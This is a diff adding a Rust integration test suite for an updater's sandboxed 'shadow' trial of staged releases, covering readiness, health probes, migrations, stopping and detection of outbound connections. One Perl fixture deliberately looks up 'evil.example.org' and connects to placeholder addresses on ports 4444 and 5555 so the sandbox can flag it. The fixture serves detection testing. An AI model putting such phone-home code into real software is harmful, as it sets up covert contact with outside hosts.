@@ -1,0 +1,284 @@
+//! Real small programs in the shadow: what they do is seen, and what they may not do refuses them.
+
+#![expect(clippy::unwrap_used, clippy::panic, reason = "tests whose main() is ours")]
+
+#[path = "../src/fixture/mod.rs"]
+mod fixture;
+
+use std::collections::BTreeMap;
+use std::fs;
+use std::path::PathBuf;
+use std::process::ExitCode;
+
+use countersign_sandbox::{Exit, Protocol};
+use countersign_updater::fetch::fetch;
+use countersign_updater::generation::{Generation, Launch};
+use countersign_updater::policy::{self, Facts};
+use countersign_updater::shadow::{self, Reason, Report, ShadowReport, Verdict};
+use countersign_updater::stage::{StagedVersion, stage};
+use countersign_updater::{Config, Home, doctor};
+use libtest_mimic::{Arguments, Trial};
+use serde_json::{Value, json};
+use tempfile::TempDir;
+
+use fixture::{PRODUCT, Repository};
+
+fn main() -> ExitCode {
+    countersign_sandbox::init_if_asked();
+    let tests: [(&str, fn()); 10] = [
+        ("a_quiet_node_is_cleared_and_the_clearance_can_be_recalled", quiet),
+        ("health_and_version_are_asked_over_the_nodes_own_socket", healthy),
+        ("an_answer_that_names_another_version_refuses", other_version),
+        ("a_node_that_never_says_ready_is_refused", never_ready),
+        ("a_node_that_ends_by_itself_is_refused_with_its_last_words", ends_early),
+        ("migrations_run_first_and_on_the_copy", migrates),
+        ("a_failed_migration_refuses_and_nothing_is_started", migration_fails),
+        ("whatever_it_tries_to_reach_after_it_is_ready_is_named", phones_home),
+        ("declared_destinations_are_expected_and_still_not_reached", declared),
+        ("a_node_that_does_not_stop_is_refused", does_not_stop),
+    ];
+    let trials = tests.map(|(name, test)| {
+        Trial::test(name, move || {
+            test();
+            Ok(())
+        })
+    });
+    libtest_mimic::run(&Arguments::from_args(), trials.into()).exit_code()
+}
+
+/// A node directory with one staged release.
+struct Bench {
+    dir: TempDir,
+    home: Home,
+    config: Config,
+    staged: StagedVersion,
+}
+
+/// A node that listens, answers the probe (with this version, if one is given) and says that it is ready.
+fn server(says: &str, more: &str) -> String {
+    format!(
+        r#"#!/usr/bin/perl
+use Socket;
+$| = 1;
+open(my $listener, '+<&=', 3) or die "no socket: $!";
+{more}
+if (my $to = $ENV{{NOTIFY_SOCKET}}) {{
+    socket(my $s, AF_UNIX, SOCK_DGRAM, 0) or die;
+    send($s, "READY=1", 0, sockaddr_un($to)) or die "cannot notify: $!";
+}}
+while (accept(my $client, $listener)) {{
+    while (<$client>) {{ last if /^\r?$/ }}
+    my $body = '{{"product":"{PRODUCT}","version":"{says}"}}';
+    print $client "HTTP/1.1 200 OK\r\ncontent-length: " . length($body) . "\r\n\r\n$body";
+    close $client;
+}}
+"#
+    )
+}
+
+fn bench(script: &str, node: Value) -> Bench {
+    let mut own = json!({
+        "command": ["bin/node", "serve", "{state}"],
+        "listen": { "http": "127.0.0.1:8080" },
+        "ready": "connect",
+        "stop-grace": 5,
+    });
+    for (key, value) in node.as_object().unwrap() {
+        own[key] = value.clone();
+    }
+    let mut repository = Repository::new();
+    repository.add("2.0.0", &[("bin/node*", script)], json!({ "node": own }));
+    repository.publish(2);
+    let dir = tempfile::tempdir().unwrap();
+    let home = Home::create(&dir.path().join("node")).unwrap();
+    let memory = if doctor::memory_limit_missing().is_some() { "none" } else { "512MiB" };
+    let text = format!(
+        "product = \"{PRODUCT}\"\nrepositories = [\"{}\"]\n\
+         [shadow]\nfor = \"700ms\"\nready = \"20s\"\nmemory = \"{memory}\"",
+        repository.url()
+    );
+    home.finish(&text).unwrap();
+    let config = Config::load(&home).unwrap();
+    let facts = Facts {
+        running: None,
+        known_bad: &BTreeMap::new(),
+        reproduced: &BTreeMap::new(),
+        only: None,
+    };
+    let choice = policy::choose(&config, &repository.releases(), facts);
+    let fetched = fetch(&home, &config, choice.approved.unwrap(), &mut |_| {}).unwrap();
+    let staged = stage(&home, fetched).unwrap();
+    Bench { dir, home, config, staged }
+}
+
+impl Bench {
+    fn copy(&self) -> PathBuf {
+        let copy = self.dir.path().join("copy");
+        fs::create_dir_all(&copy).unwrap();
+        copy
+    }
+
+    fn run(&self, old: Option<&Generation>) -> ShadowReport {
+        let copy = self.copy();
+        shadow::run(&self.home, &self.config, &self.staged, &copy, old).unwrap()
+    }
+
+    /// The running generation whose state was copied: area `values` at schema 1.
+    fn old(&self) -> Generation {
+        let spec = self.staged.release().node.clone().unwrap();
+        Generation {
+            number: 1,
+            product: PRODUCT.parse().unwrap(),
+            version: "1.0.0".parse().unwrap(),
+            binary: *self.staged.identity(),
+            state: 1,
+            areas: BTreeMap::from([("values".parse().unwrap(), 1)]),
+            protocol: None,
+            launch: Launch::new(&spec, &BTreeMap::new()),
+        }
+    }
+}
+
+#[track_caller]
+fn reasons(report: &Report) -> &[Reason] {
+    match &report.verdict {
+        Verdict::Refused { reasons } => reasons,
+        Verdict::Cleared => panic!("it was cleared: {report:#?}"),
+    }
+}
+
+fn quiet() {
+    let bench = bench(
+        "#!/bin/sh\necho started in $1 with $2\necho > \"$2/written\"\nexec sleep 1000\n",
+        json!({}),
+    );
+    let report = bench.run(None);
+    let seen = report.report();
+    assert_eq!(seen.verdict, Verdict::Cleared, "{seen:#?}");
+    assert!(seen.attempts.is_empty() && seen.unaccounted == 0 && seen.watched_ms >= 700);
+    assert!(seen.output_end.contains("started in serve with /state"), "{}", seen.output_end);
+    assert!(bench.copy().join("written").exists());
+    let digest = *report.digest();
+    let cleared = report.clear().unwrap();
+    assert_eq!(cleared.artifact(), bench.staged.identity());
+    let again = shadow::recall(&bench.home, &bench.staged, &digest).unwrap().unwrap();
+    assert_eq!(again.report(), &digest);
+    let other = countersign_metadata::Sha256::of(b"another report");
+    assert!(shadow::recall(&bench.home, &bench.staged, &other).unwrap().is_none());
+    let saved = shadow::saved(&bench.home, bench.staged.identity()).unwrap().unwrap();
+    assert_eq!(saved.verdict, Verdict::Cleared);
+}
+
+fn with_health() -> Value {
+    json!({ "ready": "notify", "health": { "listen": "http", "path": "/node/version" } })
+}
+
+fn healthy() {
+    let report = bench(&server("2.0.0", ""), with_health()).run(None);
+    let seen = report.report();
+    assert_eq!(seen.verdict, Verdict::Cleared, "{seen:#?}");
+    let health = seen.health.as_ref().unwrap();
+    assert_eq!((health.status, health.version.as_deref()), (Some(200), Some("2.0.0")));
+    assert!(seen.ready_after_ms.is_some());
+}
+
+fn other_version() {
+    let report = bench(&server("1.0.0", ""), with_health()).run(None);
+    let wanted = Reason::OtherVersion { says: "1.0.0".to_owned(), signed: "2.0.0".to_owned() };
+    assert_eq!(reasons(report.report()), [wanted]);
+    assert!(report.clear().is_err());
+}
+
+fn never_ready() {
+    let mut bench = bench("#!/bin/sh\nexec sleep 1000\n", json!({ "ready": "notify" }));
+    bench.config.shadow.ready = std::time::Duration::from_millis(500);
+    let report = bench.run(None);
+    assert!(matches!(reasons(report.report()), [Reason::NotReady { .. }]));
+}
+
+fn ends_early() {
+    let script = "#!/bin/sh\necho out of cheese >&2\nexit 7\n";
+    let report = bench(script, json!({ "ready": "notify" })).run(None);
+    let seen = report.report();
+    assert_eq!(reasons(seen), [Reason::EndedEarly { exit: Exit::Code(7) }]);
+    assert!(seen.output_end.contains("out of cheese"), "{}", seen.output_end);
+}
+
+fn migrating() -> Value {
+    let migrate = ["bin/node", "migrate", "{state}", "{from}", "{to}"];
+    json!({ "areas": { "values": { "schema": 2, "migrate": migrate } } })
+}
+
+fn migrates() {
+    let script = "#!/bin/sh\nif [ $1 = migrate ]; then echo \"$3 to $4\" > $2/schema; exit; fi\n\
+                  test -s $2/schema || exit 3\nexec sleep 1000\n";
+    let bench = bench(script, migrating());
+    let report = bench.run(Some(&bench.old()));
+    let seen = report.report();
+    assert_eq!(seen.verdict, Verdict::Cleared, "{seen:#?}");
+    assert_eq!((seen.migrations[0].from, seen.migrations[0].to), (1, 2));
+    assert_eq!(fs::read_to_string(bench.copy().join("schema")).unwrap(), "1 to 2\n");
+}
+
+fn migration_fails() {
+    let script =
+        "#!/bin/sh\nif [ $1 = migrate ]; then exit 4; fi\ntouch $2/started\nexec sleep 1000\n";
+    let bench = bench(script, migrating());
+    let report = bench.run(Some(&bench.old()));
+    let area = "values".parse().unwrap();
+    let wanted = Reason::MigrationFailed { area, from: 1, to: 2, exit: Exit::Code(4) };
+    assert_eq!(reasons(report.report()), [wanted]);
+    assert!(!bench.copy().join("started").exists());
+}
+
+/// Looks a name up, and connects and sends to an address.
+const REACHES_OUT: &str = r#"
+if (fork() == 0) {
+    gethostbyname('evil.example.org');
+    socket(my $tcp, PF_INET, SOCK_STREAM, 0);
+    connect($tcp, pack_sockaddr_in(4444, inet_aton('203.0.113.5')));
+    socket(my $udp, PF_INET, SOCK_DGRAM, 0);
+    send($udp, 'hello', 0, pack_sockaddr_in(5555, inet_aton('203.0.113.6')));
+    exit;
+}
+"#;
+
+fn phones_home() {
+    let report = bench(&server("2.0.0", REACHES_OUT), with_health()).run(None);
+    let seen: Vec<_> = reasons(report.report())
+        .iter()
+        .map(|reason| match reason {
+            Reason::PhonesHome { attempt } => attempt.clone(),
+            other => panic!("{other}"),
+        })
+        .collect();
+    let named = |protocol, name: Option<&str>, address: Option<(&str, u16)>| {
+        seen.iter().any(|attempt| {
+            attempt.protocol == protocol
+                && (name.is_none() || attempt.name.as_deref() == name)
+                && address.is_none_or(|(ip, port)| {
+                    attempt.destination.to_string() == ip && attempt.port == Some(port)
+                })
+        })
+    };
+    assert!(named(Protocol::Dns, Some("evil.example.org"), None), "{seen:#?}");
+    assert!(named(Protocol::Tcp, None, Some(("203.0.113.5", 4444))), "{seen:#?}");
+    assert!(named(Protocol::Udp, None, Some(("203.0.113.6", 5555))), "{seen:#?}");
+}
+
+fn declared() {
+    let mut node = with_health();
+    node["connects-to"] = json!(["evil.example.org:443", "203.0.113.5:4444"]);
+    let mut bench = bench(&server("2.0.0", REACHES_OUT), node);
+    bench.config.shadow.allow = vec!["203.0.113.6:5555".to_owned()];
+    let report = bench.run(None);
+    let seen = report.report();
+    assert_eq!(seen.verdict, Verdict::Cleared, "{seen:#?}");
+    assert!(seen.attempts.len() >= 3 && seen.attempts.iter().all(|a| a.expected));
+}
+
+fn does_not_stop() {
+    let script = "#!/bin/sh\ntrap '' TERM\nwhile :; do sleep 1; done\n";
+    let report = bench(script, json!({ "stop-grace": 1 })).run(None);
+    assert_eq!(reasons(report.report()), [Reason::DoesNotStop { grace_ms: 1000 }]);
+}
